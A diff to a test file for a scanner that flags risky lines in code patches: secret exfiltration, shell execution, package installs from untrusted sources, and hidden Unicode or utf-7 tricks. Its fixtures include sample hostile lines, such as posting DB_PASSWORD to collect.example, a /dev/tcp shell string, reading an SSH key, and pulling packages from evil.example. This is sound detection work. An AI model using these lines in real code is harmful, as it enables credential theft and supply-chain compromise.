@@ -15,7 +15,7 @@ describe("patchHazards", () => {
     ["docker/Dockerfile.worker", "RUN x", /image builds/],
     ["bin/deploy.sh", "echo", /script/],
     ["infra/main.tf", "x = 1", /infrastructure/],
-    ["package.json", "{}", /scripts that an install runs/],
+    ["package.json", "{}", /install scripts/],
     ["dags/a.py", 'os.system("id")', /runs a program/],
     ["dags/a.py", 'subprocess.run(["id"])', /runs a program/],
     ["dags/a.py", "exec(payload)", /executes data as code/],
@@ -28,45 +28,41 @@ describe("patchHazards", () => {
     [
       "dags/a.py",
       'requests.post("https://collect.example/x", json={"p": os.environ["DB_PASSWORD"]})',
-      /sends what may be a secret.*collect\.example/,
+      /sends a possible secret.*collect\.example/,
     ],
-    ["dags/a.py", 'URL = "https://collect.example/x"', /did not name before: collect\.example/],
+    ["dags/a.py", 'URL = "https://collect.example/x"', /new host to .*: collect\.example/],
     ["jest.config.js", "x", /builds and tools execute/],
     ["build.rs", "fn main() {}", /builds and tools execute/],
     ["pom.xml", "<x/>", /builds and tools execute/],
     ["dbt_project.yml", "x: 1", /dbt connects to/],
     ["config/airflow_local_settings.py", "x = 1", /every Airflow process/],
     ["dags/b.py", "from os import system", /runs a program \(os\.system\)/],
-    ["dags/b.py", "print(os.environ)", /whole environment/],
-    ["dags/b.py", "s3.put_object(Body=Variable.get())", /stores or sends what may be a secret/],
+    ["dags/b.py", "print(os.environ)", /entire environment/],
+    ["dags/b.py", "s3.put_object(Body=Variable.get())", /stores or sends a possible secret/],
     ["models/a.sql", "{% do run_query('drop table x') %}", /dbt run statements besides/],
     ["models/schema.yml", "      pre-hook: drop table x", /dbt run statements besides/],
     ["models/a.sql", "COPY t TO PROGRAM 'sh'", /runs a program or code from SQL/],
-    ["sql/a.sql", "unload ('select * from t') to 's3://other/'", /somewhere else.*other/],
+    ["sql/a.sql", "unload ('select * from t') to 's3://other/'", /exports query results.*other/],
     ["conf/x.yaml", "x: !!python/object/apply:f []", /YAML tag/],
     ["jobs/Load.scala", "import sys.process._", /runs a program/],
     ["web/a.js", "import { exec } from 'node:child_process'", /runs a program/],
     ["dags/a.py", "open('/home/airflow/.ssh/id_rsa').read()", /credentials/],
     ["dags/a.py", "get('http://169.254.169.254/latest/')", /credentials/],
-    ["dags/a.py", "x = '/dev/tcp/10.0.0.1/80'", /shell of another machine/],
-    [
-      "dags/a.py",
-      "U = 'postgresql://api.example@evil.example:5432/x'",
-      /did not name before: evil\.example\./,
-    ],
+    ["dags/a.py", "x = '/dev/tcp/10.0.0.1/80'", /local or remote shell/],
+    ["dags/a.py", "U = 'postgresql://api.example@evil.example:5432/x'", /new host to .*: evil\.example\./],
     ["dags/a.py", "with open('dags/b.py', 'w') as f: f.write(x)", /writes a file that something may execute/],
     ["dags/a.py", "x = '{{ conn.db.password }}'", /secret into a template/],
     ["dags/a.py", "conf.set('spark.jars.packages', 'a:b:1')", /code into Spark/],
-    ["dags/a.py", "get(url, verify=False)", /switches off a check/],
-    ["dags/a.py", "os.environ['PATH'] = '/tmp'", /looked for/],
+    ["dags/a.py", "get(url, verify=False)", /disables certificate/],
+    ["dags/a.py", "os.environ['PATH'] = '/tmp'", /search path/],
     ["web/a.js", "await import('./' + name)", /executes data as code/],
-    ["dags/a.yaml", "    command: [bash, -c, id]", /gives a command/],
-    ["environment.yml", "      - evil @ git+https://evil.example/x", /elsewhere than the package index/],
-    ["requirements/base.txt", "./local/package", /elsewhere than the package index/],
-    ["requirements.txt", "evil @ https://evil.example/evil.whl", /elsewhere than the package index/],
-    ["requirements.txt", "--extra-index-url https://evil.example/simple", /elsewhere than the package index/],
-  ])("%s: %s", (path, line, told) => {
-    expect(patchHazards(added(path, line)).join(" ")).toMatch(told);
+    ["dags/a.yaml", "    command: [bash, -c, id]", /sets a command/],
+    ["environment.yml", "      - evil @ git+https://evil.example/x", /outside the package index/],
+    ["requirements/base.txt", "./local/package", /outside the package index/],
+    ["requirements.txt", "evil @ https://evil.example/evil.whl", /outside the package index/],
+    ["requirements.txt", "--extra-index-url https://evil.example/simple", /outside the package index/],
+  ])("%s: %s", (path, line, expected) => {
+    expect(patchHazards(added(path, line)).join(" ")).toMatch(expected);
   });
 
   it.each([
@@ -81,75 +77,75 @@ describe("patchHazards", () => {
     ["models/schema.yml", "      - name: pre_hooked"],
     ["dags/orders.py", 'HOME = "http://localhost:8080/"'],
     ["dags/orders.py", 'URL = f"https://{host}/x"'],
-  ])("says nothing of %s: %s", (path, line) => {
+  ])("ignores %s: %s", (path, line) => {
     expect(patchHazards(added(path, line))).toEqual([]);
   });
 
-  it("a secret read on one line and sent on another counts, one that was there already does not", () => {
+  it("flags a secret read on one line and sent on another, unless it existed before", () => {
     const lines = 'token = os.getenv("API_TOKEN")\nhttpx.post(url, content=token)';
-    expect(patchHazards(added("a.py", lines)).join()).toMatch(/sends what may be a secret/);
+    expect(patchHazards(added("a.py", lines)).join()).toMatch(/sends a possible secret/);
     expect(patchHazards([{ path: "a.py", before: `${lines}\n`, after: `${lines}\nx = 1\n` }])).toEqual([]);
   });
 
-  it("an address that the file names already is not new, and a removed file has no lines", () => {
+  it("ignores known hosts and removed files", () => {
     const before = 'URL = "https://api.example/v1"\n';
     expect(patchHazards(added("a.py", 'URL2 = "https://api.example/v2"', before))).toEqual([]);
     expect(patchHazards([{ path: "conftest.py", before: "x\n", after: null }])).toEqual([]);
   });
 });
 
-describe("a file that is a program by what is in it", () => {
+describe("files identified by content", () => {
   const file = (path: string, after: string, before: string | null = null) =>
     patchHazards([{ path, before, after }]).join(" ");
 
   it.each([
     ["tools/refresh", "#!/usr/bin/env bash\necho\n"],
     ["tools/refresh.in", "#!/usr/bin/perl\n"],
-  ])("a script without a known ending: %s", (path, text) => {
+  ])("flags a script without a known extension: %s", (path, text) => {
     expect(file(path, text)).toMatch(/is a script/);
     expect(file(path, `${text}x\n`, text)).toMatch(/is a script/);
   });
 
-  it("not a DAG, which may begin with the same line", () => {
+  it("ignores a DAG with a shebang", () => {
     expect(file("dags/a.py", "#!/usr/bin/env python3\nx = 1\n")).toBe("");
   });
 
-  it("detects Python whatever the file is called", () => {
+  it("detects Python under any file name", () => {
     expect(file("tools/x", "#!/usr/bin/env python3\nfrom os import popen\n")).toMatch(/os\.popen/);
   });
 
-  it("the code in the cells of a notebook", () => {
+  it("checks the code in notebook cells", () => {
     const notebook = (source: string[]) => JSON.stringify({ cells: [{ cell_type: "code", source }] });
     const before = notebook(["import os\n"]);
     expect(file("n.ipynb", notebook(["import os\n", "os.system('id')"]), before)).toMatch(/os\.system/);
     expect(file("n.ipynb", notebook(["import os\n", "x = 'system'"]), before)).toBe("");
   });
 
-  it("what a cluster runs", () => {
+  it("flags Kubernetes manifests", () => {
     expect(file("k8s/x.yaml", "apiVersion: batch/v1\nkind: CronJob\n")).toMatch(/cluster runs/);
     expect(file("dags/x.yaml", "kind: Job\n")).toBe("");
   });
 
-  it("a module that others would get in place of Python's own", () => {
-    expect(file("dags/logging.py", "x = 1\n")).toMatch(/imports logging/);
-    expect(file("dags/json/__init__.py", "")).toMatch(/imports json/);
+  it("flags a file that shadows a standard module", () => {
+    expect(file("dags/logging.py", "x = 1\n")).toMatch(/imports of logging/);
+    expect(file("dags/json/__init__.py", "")).toMatch(/imports of json/);
     expect(file("dags/orders/logging.py", "x = 1\n")).toBe("");
     expect(file("dags/logging.py", "x = 2\n", "x = 1\n")).toBe("");
   });
 
-  it("Python that is too large to be read in full is named as that, and judged line by line", () => {
+  it("flags Python that is too large to parse, and checks it line by line", () => {
     const before = "x = 1\n".repeat(50_000);
     expect(patchHazards(added("dags/a.py", 'os.system("id")', before))).toEqual([
-      "Changes dags/a.py, which is too large to be checked in full: read every changed line.",
+      "Changes dags/a.py, which is too large to check in full: review every changed line.",
       expect.stringContaining("dags/a.py"),
     ]);
   });
 
-  it("Python that cannot be read to its end is judged line by line", () => {
+  it("checks Python that does not parse line by line", () => {
     expect(file("dags/a.py", "x = (\n# subprocess.run('id')\n")).toMatch(/runs a program/);
   });
 
-  it("a host is compared as a whole", () => {
+  it("compares complete host names", () => {
     const before = 'HOST = "api.example.org"\n';
     expect(file("a.py", `${before}U = "https://api.example/"\n`, before)).toMatch(/api\.example\./);
     expect(file("a.py", `${before}U = "https://api.example.org/"\n`, before)).toBe("");
@@ -157,17 +153,17 @@ describe("a file that is a program by what is in it", () => {
 });
 
 describe("patchObjection", () => {
-  it("names characters that a change would add unseen, and lets those stay that were there", () => {
-    expect(patchObjection(added("a.py", "# \u202Eadmin"))).toMatch(/a\.py that do not show \(U\+202E\)/);
+  it("names invisible characters that a change adds, but allows existing ones", () => {
+    expect(patchObjection(added("a.py", "# \u202Eadmin"))).toMatch(/to a\.py \(U\+202E\)/);
     expect(patchObjection(added("a.py", "x = 'a\u200Db'"))).toMatch(/U\+200D/);
     const before = "\uFEFFimport os\n";
     expect(patchObjection(added("a.py", "x = 1", before))).toBeNull();
     expect(patchObjection(added("a.py", "x = '\uFEFF'", before))).toMatch(/U\+FEFF/);
   });
 
-  it("names an encoding in which Python would read other code than people", () => {
+  it("names an encoding that hides code from reviewers", () => {
     const file = (text: string, before: string | null = null) => [{ path: "a.py", before, after: text }];
-    expect(patchObjection(file("# coding: utf-7\n+AG8-s"))).toMatch(/encoding utf-7/);
+    expect(patchObjection(file("# coding: utf-7\n+AG8-s"))).toMatch(/as utf-7/);
     expect(patchObjection(file("#!/usr/bin/python\n# -*- coding: raw_unicode_escape -*-\n"))).toMatch(
       /raw_unicode/,
     );
